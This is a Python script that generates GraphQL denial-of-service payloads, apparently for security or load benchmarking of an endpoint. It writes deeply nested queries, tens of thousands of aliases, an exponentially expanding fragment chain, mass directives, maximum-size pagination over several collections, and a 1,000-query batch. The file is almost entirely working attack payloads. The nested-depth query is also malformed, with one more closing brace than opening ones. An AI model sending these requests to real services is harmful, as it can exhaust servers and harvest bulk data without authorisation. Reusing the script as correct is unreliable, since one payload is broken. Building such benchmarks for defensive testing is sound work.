#!/usr/bin/env python3
"""Writes the attack requests of the endpoint benchmark into a directory, one JSON body each."""
import json
import sys

out = sys.argv[1]


def write(name, query):
    with open(f"{out}/{name}.json", "w") as f:
        json.dump({"query": query}, f)


write("depth50", "{ organizations { edges { node { " + "parent { " * 50 + "name" + " }" * 54 + " }")
write("aliases1000", "{ " + " ".join(f"a{i}:__typename" for i in range(1000)) + " }")
write("aliases10000", "{ " + " ".join(f"a{i}: viewer {{ role }}" for i in range(10000)) + " }")
frags = "query { ...F0 }\n" + "".join(
    f"fragment F{i} on Query {{ ...F{i + 1} ...F{i + 1} }}\n" for i in range(24)
) + "fragment F24 on Query { viewer { role } }\n"
write("fragments24", frags)
write("directives1000", "{ viewer { role " + "@include(if: true) " * 1000 + "} }")
write("first_max_x4", " ".join([
    "{ a: powers(first: 2147483647) { edges { node { name holder { name } } } }",
    "b: meetings(first: 2147483647) { edges { node { label } } }",
    "c: appointments(first: 2147483647) { edges { node { stage } } }",
    "d: disciplinaryCases(first: 2147483647) { edges { node { rank } } } }",
]))
with open(f"{out}/batch1000.json", "w") as f:
    json.dump([{"query": "{ viewer { role } }"}] * 1000, f)
